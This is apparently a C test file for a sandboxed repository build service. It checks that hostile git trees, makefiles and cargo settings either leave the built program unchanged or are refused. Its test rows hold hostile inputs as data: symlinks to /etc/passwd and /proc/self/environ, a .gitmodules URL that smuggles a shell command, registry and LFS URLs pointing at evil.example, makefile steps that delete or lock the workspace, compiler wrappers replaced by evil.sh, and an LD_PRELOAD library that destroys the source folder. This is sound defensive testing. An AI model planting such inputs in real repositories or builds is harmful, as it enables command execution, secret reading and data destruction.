/* Repositories made to harm: trees that no git would make, settings that want to be obeyed,
 * makefiles that clear up behind them. Each builds to what it would be without, or is refused for a
 * reason. */
#include "projects.h"

#include "test.h"

#include <stdio.h>
#include <string.h>

/* The bare repository `repo` of main.c and one entry more. `name` and `text` as printf's %b. */
static void odd(const char *repo, const char *mode, const char *name, const char *text)
{
    sh("set -e; git init -q --bare -b main %s/%s; cd %s/%s\n"
       "main=$(git hash-object -w ../plain/main.c)\n"
       "more=$(printf '%%b' '%s' | git hash-object -w --stdin)\n"
       "case %s in\n"
       "40000) kind=tree; more=$(printf '100644 blob %%s\\tconfig\\0' $more | git mktree -z) ;;\n"
       "160000) kind=commit; more=$(git -C ../plain rev-parse HEAD) ;;\n"
       "*) kind=blob ;;\n"
       "esac\n"
       "tree=$({ printf '100644 blob %%s\\tmain.c\\0' $main\n"
       "printf '%%s %%s %%s\\t%%b\\0' %s $kind $more '%s'; } | git mktree -z --missing)\n"
       "git update-ref refs/heads/main $(GIT_AUTHOR_DATE='2026-01-01T00:00:00Z' "
       "GIT_COMMITTER_DATE='2026-01-01T00:00:00Z' git -c user.name=t -c user.email=t@example.com "
       "commit-tree -m x $tree)",
       folder, repo, folder, repo, text, mode, mode, name);
}

static struct hash256 plain(void)
{
    put("plain", "main.c", hello_c);
    commit("plain");
    return built("plain", (struct how){0});
}

static void trees(void **state)
{
    static const struct {
        const char *mode, *name, *text;
        bool refused;
    } rows[] = {
        {"100644", "a\\nbwrap: b\\033[31m.h", "x", false},
        {"100644", "\\0377\\0376.h", "x", false},
        {"100644", "-o.h", "x", false},
        {"100644", "Main.c.h", "x", false},
        {"120000", "a.c", "/etc/passwd", false}, /* a link is no source */
        {"120000", "x.h", "../../../../etc/passwd", false},
        {"120000", "x.h", "x.h", false},
        {"120000", "outlayer.toml", "/proc/self/environ", false},
        {"120000", "Makefile", "/dev/zero", false},
        {"120000", "build", "/usr", false},
        {"160000", "sub", "x", false},
        {"40000", "hooks", "#!/bin/sh\\nexit 1\\n", false},
        {"100644", ".gitattributes", "* filter=evil diff=evil merge=lfs ident\\n", false},
        {"100644", ".gitmodules",
         "[submodule \"x\"]\\npath = -u./x\\nurl = ext::sh -c touch% /work/evil\\n", false},
        {"100644", ".lfsconfig", "[lfs]\\nurl = https://evil.example\\n", false},
        {"40000", "..", "x", true},
        {"40000", ".", "x", true},
        {"40000", ".git", "[core]\\nfsmonitor = false\\n", true},
        {"40000", ".GIT", "x", true},
        {"40000", "git~1", "x", true},
        {"100644", ".git", "gitdir: /repo\\n", true},
        {"120000", ".git", "/repo", true},
    };
    struct hash256 want = plain();
    char repo[32];

    (void)state;
    for (size_t i = 0; i < countof(rows); i++) {
        struct hash256 is;

        snprintf(repo, sizeof(repo), "odd-%zu", i);
        odd(repo, rows[i].mode, rows[i].name, rows[i].text);
        if (rows[i].refused) {
            refused(repo, (struct how){0}, COMPILE_REPOSITORY, "cannot be laid out");
            continue;
        }
        is = built(repo, (struct how){0});
        if (!hash_eq(&is, &want))
            fail_msg("'%s' changes the program", rows[i].name);
    }
}

/* Of `git fast-import`'s commands, after a blob that is mark 1. */
static void import(const char *repo, const char *files)
{
    sh("git init -q --bare -b main %s/%s && cd %s/%s && { printf 'blob\\nmark :1\\ndata 2\\nx\\n"
       "commit refs/heads/main\\ncommitter t <t@example.com> 1767225600 +0000\\ndata 0\\n'; "
       "printf 'M 100644 inline main.c\\ndata <<END\\n'; cat ../plain/main.c; echo END; %s; } | "
       "git fast-import --quiet",
       folder, repo, folder, repo, files);
}

static void sizes(void **state)
{
    struct hash256 want = plain(), is;

    (void)state;
    import("many", "seq -f 'M 100644 :1 %06.0f' 100000 | sed 's|...$|/&|'");
    is = built("many", (struct how){0});
    assert_true(hash_eq(&is, &want));
    import("deep", "printf 'M 100644 :1 '; for i in $(seq 4000); do printf 'd/'; done; echo f");
    refused("deep", (struct how){0}, COMPILE_LIMIT, "nested too deeply");
    /* Ten folders of ten folders, ten times, are one folder for git. */
    sh("set -e; cp -r %s/many %s/doubled; cd %s/doubled; t=$(git rev-parse main^{tree}); "
       "for i in 1 2 3 4 5 6; do t=$(for n in 0 1 2 3 4 5 6 7 8 9; do "
       "printf '040000 tree %%s\\t%%s\\n' $t $n; done | git mktree); done; "
       "git update-ref refs/heads/main $(git -c user.name=t -c user.email=t@example.com "
       "commit-tree -m x $t)",
       folder, folder, folder);
    refused("doubled", (struct how){.memory_mb = 200}, COMPILE_LIMIT,
            "more than 200 MiB of memory");
    put("huge", "main.c", hello_c);
    sh("head -c 300000000 /dev/zero > %s/huge/zeros", folder);
    commit("huge");
    refused("huge", (struct how){.disk_mb = 64}, COMPILE_LIMIT, "larger than 64 MiB");
}

static void makefiles(void **state)
{
    static const struct {
        const char *does, *why;
        enum compile_result result;
    } rows[] = {
        {"chmod 000 /work/src /work/out /work", "cc.cfg", COMPILE_CODE},
        {"rm -rf /work/*; ln -s /usr /work/src; ln -s / /work/out", "", COMPILE_CODE},
        {"kill -9 $$PPID", "signal 9", COMPILE_CODE},
        {"exit 77", "make: ***", COMPILE_CODE},
        {"printf 'error: \\033[31mred\\033[0m \\342\\200\\256turned \\302\\233\\007\\377\\n'; exit "
         "1",
         "error: red turned \xef\xbf\xbd\nmake", COMPILE_CODE},
        {"mkdir m; cd m; seq 1 500000 | xargs touch", "files", COMPILE_LIMIT},
    };
    char repo[32], text[512];

    (void)state;
    for (size_t i = 0; i < countof(rows); i++) {
        snprintf(repo, sizeof(repo), "make-%zu", i);
        snprintf(text, sizeof(text), "x.wasm: main.c\n\t%s\n\t$(CC) -o $@ main.c\n", rows[i].does);
        put(repo, "main.c", hello_c);
        put(repo, "Makefile", text);
        commit(repo);
        refused(repo, (struct how){0}, rows[i].result, rows[i].why);
    }
}

/* Settings of a project that would put something of its own in the place of the compilers. */
static void cargo_settings(void **state)
{
    static const char *const rows[] = {
        "[build]\nrustc = \"./evil.sh\"\n",
        "[build]\nrustc-wrapper = \"./evil.sh\"\nrustc-workspace-wrapper = \"./evil.sh\"\n",
        "[target.wasm32-wasip1]\nlinker = \"./evil.sh\"\nrunner = \"./evil.sh\"\n",
        "[build]\ntarget = \"x86_64-unknown-linux-gnu\"\ntarget-dir = \"/work/src/other\"\n",
        "[alias]\nbuild = \"run\"\nfetch = \"run\"\n",
        "[env]\nRUSTC = { value = \"/work/src/evil.sh\", force = true }\n"
        "RUSTC_WRAPPER = { value = \"/work/src/evil.sh\", force = true }\n",
        "[registry]\nglobal-credential-providers = [\"/work/src/evil.sh\"]\n",
        "[http]\nproxy = \"http://10.0.0.1:3128\"\n[net]\noffline = false\nretry = 1000000\n",
        "[term]\nverbose = true\ncolor = \"always\"\nprogress = { when = \"always\", width = 80 "
        "}\n",
    };
    struct hash256 want, is;
    char repo[32];

    (void)state;
    if (!has_rust())
        skip();
    put("settings", "Cargo.toml", hello_toml);
    put("settings", "src/main.rs", hello_rs);
    commit("settings");
    want = built("settings", (struct how){0});
    for (size_t i = 0; i < countof(rows); i++) {
        snprintf(repo, sizeof(repo), "settings-%zu", i);
        put(repo, "Cargo.toml", hello_toml);
        put(repo, "src/main.rs", hello_rs);
        put(repo, ".cargo/config.toml", rows[i]);
        put(repo, "evil.sh", "#!/bin/sh\necho evil >&2\nexit 1\n");
        sh("chmod 755 %s/%s/evil.sh", folder, repo);
        commit(repo);
        is = built(repo, (struct how){0});
        if (!hash_eq(&is, &want))
            fail_msg("this changes the program: %s", rows[i]);
    }
    /* What gets itself run while crates are fetched can spoil its own build, and pays for it. */
    put("settings", ".cargo/config.toml",
        "[env]\nLD_PRELOAD = { value = \"/work/src/evil.so\", force = true }\n");
    put("settings", "evil.c",
        "#include <stdio.h>\n__attribute__((constructor)) static void evil(void) "
        "{ rename(\"/work/src\", \"/work/gone\"); fopen(\"/work/src\", \"w\"); }\n");
    sh("cc -shared -fPIC -o %s/settings/evil.so %s/settings/evil.c", folder, folder);
    commit("settings");
    refused("settings", (struct how){0}, COMPILE_CODE, "exit status 126");
    put("settings", "Cargo.toml",
        "[package]\nname = \"hello\"\nversion = \"0.1.0\"\n[dependencies]\nitoa = \"1\"\n");
    put("settings", ".cargo/config.toml",
        "[source.crates-io]\nreplace-with = \"x\"\n[source.x]\nregistry = "
        "\"sparse+https://evil.example/\"\n");
    commit("settings");
    refused("settings", (struct how){0}, COMPILE_PROJECT, "'evil.example:443'");
    put("settings", ".cargo/config.toml", "this is no toml");
    commit("settings");
    refused("settings", (struct how){0}, COMPILE_CODE, "TOML parse error at line 1");
}

/* What a build prints is retold as news: in any language, and however much of it there is. */
static void names(void **state)
{
    char makefile[512] = "x.wasm: main.c\n\t@echo 'Compiling ";

    (void)state;
    for (unsigned i = 0; i < COMPILE_NAME_MAX - 1; i++)
        strcat(makefile, "x");
    strcat(makefile, "\xc3\xa9\xc3\xa9'; yes 'Compiling y' | head -n 200000\n"
                     "\t$(CC) -O2 -o $@ main.c\n");
    put("names", "main.c", hello_c);
    put("names", "Makefile", makefile);
    commit("names");
    (void)built("names", (struct how){0});
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(trees),          cmocka_unit_test(sizes), cmocka_unit_test(makefiles),
        cmocka_unit_test(cargo_settings), cmocka_unit_test(names),
    };

    return cmocka_run_group_tests(tests, projects_setup, projects_teardown);
}
